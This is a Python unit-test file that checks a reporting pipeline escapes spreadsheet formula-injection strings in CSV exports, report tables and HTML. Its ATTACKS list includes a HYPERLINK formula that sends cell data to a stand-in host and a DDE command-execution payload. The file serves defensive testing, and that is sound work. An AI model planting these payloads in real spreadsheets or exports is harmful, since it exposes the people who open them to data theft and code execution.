"""CSV / formula injection: every export and report table escapes text cells a spreadsheet would run (OWASP)."""

from __future__ import annotations

import csv
import io
from datetime import date
from pathlib import Path

import polars as pl
import pytest

import warehouse
from dashboards.reports.product_feedback import load_report_data, render_html
from tests.unit.dashboards.fake_warehouse import build_fake_warehouse
from transforms.spreadsheet import csv_text, escape_cell, escape_text_columns

ATTACKS = ('=HYPERLINK("http://evil.example/?"&A1,"click me")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3", "\t=1+1",
           "\r=1+1")


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_cell_a_spreadsheet_would_run_gets_a_leading_quote(attack: str) -> None:
    assert escape_cell(attack) == "'" + attack


@pytest.mark.parametrize("value", ["請求について", "Billing question", "I0000003", "", "a=b", " =1", 3, -3.5, None, True])
def test_other_cells_and_every_number_are_left_as_they_are(value: object) -> None:
    assert escape_cell(value) == value


def test_frames_escape_text_columns_and_keep_numbers() -> None:
    frame = pl.DataFrame({"subject": [*ATTACKS[:3], "ok", None], "score": [-3.5, 1.0, -0.1, 2.0, None]})
    escaped = escape_text_columns(frame)
    assert escaped["subject"].to_list() == ["'" + a for a in ATTACKS[:3]] + ["ok", None]
    assert escaped["score"].to_list() == frame["score"].to_list()


def test_csv_text_round_trips_with_every_attack_inert() -> None:
    text = csv_text(["subject", "aht"], [[attack, -3.5] for attack in ATTACKS])
    assert text.startswith("\ufeff")
    rows = list(csv.reader(io.StringIO(text[1:], newline="")))
    assert rows[0] == ["subject", "aht"]
    assert [row[0] for row in rows[1:]] == ["'" + attack for attack in ATTACKS]
    assert {row[1] for row in rows[1:]} == {"-3.5"}


def test_report_tables_escape_theme_labels_examples_and_products(tmp_path: Path) -> None:
    path = tmp_path / "koe.duckdb"
    build_fake_warehouse(path, 60)
    with warehouse.connect(path) as conn:
        conn.execute("update themes.themes set label = $l, is_question = true where theme_id = 'T0001'", {"l": ATTACKS[0]})
        conn.execute("update themes.theme_examples set text = $t, interaction_id = (select min(interaction_id) from"
                     " core.interactions where created_at >= '2026-10-06')", {"t": ATTACKS[2]})  # a quote of the week
        conn.execute("update themes.theme_daily set product = $p", {"p": ATTACKS[1]})
    data = load_report_data(path, date(2026, 10, 5), date(2026, 10, 11))
    texts = [v for frame in (data.themes, data.examples, data.faq) for column in frame.select(pl.col(pl.String)).columns
             for v in frame[column].drop_nulls().to_list()]
    assert texts and not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in texts)
    assert "'" + ATTACKS[0] in data.themes["label"].to_list() and "'" + ATTACKS[0] in data.faq["label"].to_list()
    assert "'" + ATTACKS[2] in data.examples["text"].to_list()
    assert data.themes["top_products"][0].startswith("'" + ATTACKS[1])
    page = render_html(data, "en")
    assert "&#39;=HYPERLINK" in page and ">=HYPERLINK" not in page
